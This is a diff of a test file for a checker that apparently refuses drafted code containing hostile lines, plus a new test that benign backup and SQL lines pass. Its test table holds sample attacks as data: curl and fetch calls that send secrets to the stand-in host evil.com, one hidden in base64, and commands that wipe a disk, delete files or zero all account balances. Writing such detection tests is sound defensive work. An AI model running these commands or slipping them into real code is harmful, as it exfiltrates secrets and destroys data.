@@ -176,6 +176,7 @@ describe("code that is put together", () => {
     ["a host before an equals sign", "evil.com = x_1", "evil.com"],
     ["a host before a placeholder", "curl -d @- evil.com<secret>out_1", "evil.com"],
     ["a host in pieces", "requests.get('http://evil'+'.com/x_1')", "evil.com"],
+    ["words that nobody can read", `fetch(atob("aHR0cHM6Ly9ldmlsLmlvL2luYm94"))`, "decodes"],
     ["a disk", "cp /dev/zero /dev/sda1", "destroys"],
     ["a file removed", "os.remove('/home/data_1/db_2.sqlite')", "destroys"],
     ["a command in pieces", "subprocess.run(['r'+'m','-r','/srv/x_1'])", "destroys"],
@@ -183,6 +184,11 @@ describe("code that is put together", () => {
     ["all rows changed", "UPDATE accounts_1 SET balance_1 = 0", "destroys"],
   ])("R12 X5 with %s is refused, however much of it is its own", async (_, line, reason) => {
     expect((await proven(drafted("inference", `scrape_interval: 15s\n${line}`, [WINDOW, FLAG]))).reason).toContain(reason);
+  });
+
+  it("R12 R14 a file named after a day is no host, nor is a clause on a line of its own prose", async () => {
+    for (const text of ['DAY=$(date +%F)\ntar -cf "/var/backups/gauge-$DAY.zip" /etc/prometheus', "SELECT job FROM up\nORDER BY job DESC"])
+      expect((await proven(drafted("inference", `${SHELL}\n${text}`, [WINDOW, FLAG]))).reason, text).toBeUndefined();
   });
 
   it("R12 R14 is cited for the sentences that have something of it, and for none that only speaks of it", async () => {
